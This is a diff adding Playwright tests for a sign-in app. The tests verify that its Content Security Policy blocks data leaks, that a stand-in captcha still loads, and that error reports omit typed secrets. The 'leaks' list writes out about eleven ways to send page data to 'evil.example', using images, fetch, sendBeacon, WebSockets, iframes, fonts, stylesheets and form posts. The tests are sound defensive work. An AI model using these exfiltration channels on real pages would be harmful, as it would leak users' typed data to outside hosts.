@@ -1,0 +1,203 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page, Request } from '@playwright/test';
+import { captchaScript } from '#api/offline/stand-in-scripts.ts';
+import { test as base, expect, message, signIn } from './fixtures.ts';
+import { enterPin, heading, recoverUsername, sendPin } from './steps.ts';
+import { startTestServer } from './test-server.ts';
+
+// A build that names its hosts and a URL for reports (docs/deploying.md). One worker makes it.
+
+const test = base.extend<object, { readonly build: string }>({
+  build: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright demands a pattern.
+    async ({}, use) => {
+      const folder = mkdtempSync(join(tmpdir(), 'settings-'));
+      const options = ['build', '--outDir', folder, '--emptyOutDir', '--logLevel', 'error'];
+      const env = {
+        ...process.env,
+        VITE_ERROR_REPORTS: 'https://reports.example.com/sign-in',
+        VITE_HANDOFF_HOSTS: 'console.example',
+        VITE_SIGNUP_HOSTS: 'none',
+        VITE_LOGO_HOSTS: 'logos.example.com',
+        VITE_SCRIPT_HOSTS: 'www.google.com/recaptcha/, www.gstatic.com/recaptcha/, risk.example.com',
+      };
+      execFileSync(process.execPath, ['node_modules/vite/bin/vite.js', ...options], { env });
+      await use(folder);
+      rmSync(folder, { recursive: true });
+    },
+    { scope: 'worker', timeout: 60_000 },
+  ],
+  server: async ({ build }, use) => {
+    const server = await startTestServer({ dist: build });
+    await use(server);
+    await server.close();
+  },
+});
+
+test.describe.configure({ mode: 'default' });
+
+test.beforeEach(async ({ page }) => {
+  await page.route('https://reports.example.com/**', (route) => route.fulfill({ status: 204 }));
+});
+
+/**
+ * Like Google's first captcha script, this one defines the captcha's object without its functions, and loads a second
+ * script by a URL that is a plain string.
+ */
+const captchaLoader = `(function () {
+  window.grecaptcha = { ready: function () {} };
+  var script = document.createElement('script');
+  script.src = 'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js' + new URL(document.currentScript.src).search;
+  var first = document.getElementsByTagName('script')[0];
+  first.parentNode.insertBefore(script, first);
+})();`;
+
+/** Like Google's second captcha script, this one creates its own Trusted Types policy. */
+const captchaWidget = `window.trustedTypes && trustedTypes.createPolicy('goog#html', { createHTML: String });\n${captchaScript}`;
+
+test('its policy allows a captcha that loads a second script', async ({ page, server }) => {
+  const script = (body: string) => ({ contentType: 'text/javascript', body });
+  await page.route('https://www.google.com/recaptcha/**', (route) => route.fulfill(script(captchaLoader)));
+  await page.route('https://www.gstatic.com/recaptcha/**', (route) => route.fulfill(script(captchaWidget)));
+  await page.goto('/Loginapp/forgot-username');
+  await recoverUsername(page);
+  await enterPin(page, await sendPin(page, server));
+  await expect(message(page, 'LOGIN_USERNAME_RETRIEVED')).toBeVisible();
+});
+
+/** Adds an element to the page. */
+const add = ({ tag = '', ...attributes }: Readonly<Record<string, string>>) => {
+  document.body.append(Object.assign(document.createElement(tag), attributes));
+};
+const evil = 'https://evil.example/?secret';
+
+/** Ways to send what a merchant types to another host, each with the directive that blocks it. */
+const leaks: readonly (readonly [directive: string, run: (page: Page) => Promise<unknown>])[] = [
+  ['img-src', (page) => page.evaluate(add, { tag: 'img', src: evil })],
+  ['img-src', (page) => page.evaluate(add, { tag: 'p', style: `background: url(${evil})` })],
+  ['connect-src', (page) => page.evaluate((url) => fetch(url), evil)],
+  ['connect-src', (page) => page.evaluate((url) => navigator.sendBeacon(url), evil)],
+  ['connect-src', (page) => page.evaluate((url) => new WebSocket(url.replace('https', 'wss')).url, evil)],
+  ['connect-src', (page) => page.evaluate((url) => new EventSource(url).url, evil)],
+  ['frame-src', (page) => page.evaluate(add, { tag: 'iframe', src: evil })],
+  ['media-src', (page) => page.evaluate(add, { tag: 'video', src: evil })],
+  ['font-src', (page) => page.evaluate((url) => new FontFace('x', `url(${url})`).load(), evil)],
+  ['style-src-elem', (page) => page.evaluate(add, { tag: 'link', rel: 'stylesheet', href: evil })],
+  [
+    'form-action',
+    async (page) => {
+      await page.evaluate(add, { tag: 'form', id: 'leak', action: evil, method: 'post' });
+      await page.evaluate(() => (document.getElementById('leak') as HTMLFormElement).submit());
+    },
+  ],
+];
+
+test.describe('its policy blocks', () => {
+  test.use({ provoked: /violat|Trusted|blocked|net::ERR|Mixed Content|must begin with https/i });
+
+  test('every other host', async ({ page, server }) => {
+    const requested: string[] = [];
+    await page.route(/evil\.example/, (route) => {
+      requested.push(route.request().url());
+      return route.abort();
+    });
+    await page.addInitScript(() => {
+      const seen: string[] = [];
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
+      Object.assign(window, { violations: seen });
+    });
+    const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+    await page.goto('/');
+    await expect(heading(page)).toBeVisible();
+    for (const [directive, run] of leaks) {
+      const before = (await violations()).length;
+      await run(page).catch(() => undefined);
+      await expect.poll(async () => (await violations()).slice(before)).toContain(directive);
+    }
+    await expect(page.evaluate(add, { tag: 'script', src: evil })).rejects.toThrow(
+      /TrustedScriptURL|must begin/,
+    );
+    expect(requested).toEqual([]);
+    expect(page.url()).toBe(`${server.url}/`);
+  });
+});
+
+const isReport = (request: Request) => request.url() === 'https://reports.example.com/sign-in';
+const bodyOf = (request: Request): Record<string, unknown> => JSON.parse(request.postData() ?? '');
+
+test.describe('its reports', () => {
+  test.use({ provoked: /night|violat/i });
+
+  test('have an error and a violation at once, and the calls and timings when the page is left, without any typed value or query', async ({
+    page,
+  }) => {
+    const code = page.waitForResponse(/\/assets\/start-reports-/);
+    const reported: Request[] = [];
+    page.on('request', (request) => isReport(request) && reported.push(request));
+    await page.goto('/?cobrand=harbor&sp=secret-entry');
+    await code;
+    await page.evaluate(() => {
+      document.body.append(
+        Object.assign(document.createElement('video'), { src: 'https://evil.example/v?secret' }),
+      );
+      setTimeout(() => {
+        throw new RangeError('secret-error of the night');
+      });
+    });
+    const bodies = () => reported.map(bodyOf);
+    await expect
+      .poll(bodies)
+      .toEqual(expect.arrayContaining([expect.objectContaining({ kind: 'error', name: 'RangeError' })]));
+    expect(bodies()).toContainEqual(
+      expect.objectContaining({
+        kind: 'violation',
+        directive: 'media-src',
+        blocked: 'https://evil.example/v',
+      }),
+    );
+    await signIn(page, 'merchant', 'wrong-secret');
+    await expect(message(page, 'LOGIN_UNAUTHORIZED_ERROR')).toBeVisible();
+    await page.evaluate(() => window.dispatchEvent(new Event('pagehide')));
+    await expect.poll(() => reported.length).toBe(4);
+    const context = {
+      build: await page.locator('html').getAttribute('data-build'),
+      time: expect.stringMatching(/^\d{4}-.+Z$/),
+      locale: 'en-US',
+      brand: 'harbor',
+    };
+    const milliseconds = expect.any(Number);
+    expect(bodies()).toContainEqual({
+      kind: 'calls',
+      ...context,
+      reference: expect.stringMatching(/^[A-Z2-9]{4}-[A-Z2-9]{4}$/),
+      calls: expect.arrayContaining([
+        { call: 'appInit', outcome: 'ok', milliseconds },
+        { call: 'theme', outcome: 'ok', milliseconds },
+        { call: 'login', outcome: 401, milliseconds },
+      ]),
+    });
+    expect(bodies()).toContainEqual({ kind: 'timings', ...context, timings: { formLive: milliseconds } });
+    expect(JSON.stringify(bodies())).not.toMatch(/merchant|secret/);
+  });
+
+  test('have a core that fails to load, because nothing else of the page can report it', async ({ page }) => {
+    await page.route(/\/assets\/core-/, (route) => route.abort());
+    const reported = page.waitForRequest(isReport);
+    await page.goto('/Login/contact?cobrand=harbor');
+    expect(bodyOf(await reported)).toEqual({
+      kind: 'error',
+      name: 'PageLoadError',
+      frames: [],
+      path: '/contact',
+      reference: '',
+      build: await page.locator('html').getAttribute('data-build'),
+      time: expect.any(String),
+      locale: 'en-US',
+      brand: 'harbor',
+    });
+    await expect(message(page, 'APP_FAILURE')).toBeVisible();
+  });
+});
